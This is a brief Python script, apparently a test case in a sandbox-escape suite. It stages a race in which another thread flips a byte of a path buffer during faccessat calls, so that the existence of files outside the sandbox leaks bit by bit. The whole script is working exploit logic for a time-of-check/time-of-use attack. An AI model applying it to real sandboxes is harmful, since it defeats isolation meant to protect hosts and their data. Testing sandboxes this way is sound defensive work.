# SPDX-License-Identifier: Apache-2.0
# attack: another thread flips the path of access over names that may exist or not
# class: race
# wins: leak
# needs: race
from kit import *

bits = []
tried()


def seen(i):
    """Is there a name e%02d outside, as told by a call that was checked with a name inside?"""
    good, bad = b'%s/exist/e%02d' % (os.fsencode(BOX), i), b'%s/exist/e%02d' % (os.fsencode(OUT), i)
    buf = ctypes.create_string_buffer(good, 4096)
    at = next(k for k in range(len(good)) if good[k] != bad[k])
    f = Flipper(address(buf) + at, good[at] ^ bad[at])
    hit = False
    end = time.monotonic() + 0.12
    for _ in range(1 << 20 if NATIVE else max(1, F['rounds'] // F['bits'])):
        if NATIVE and time.monotonic() > end:
            break
        if sc('faccessat', AT_FDCWD, buf, 0) == 0:
            hit = True
            break
    f.end()
    return hit


bits = ''.join('1' if seen(i) else '0' for i in range(F['bits']))
say('BITS=' + bits)
say('ROUNDS', F['rounds'])
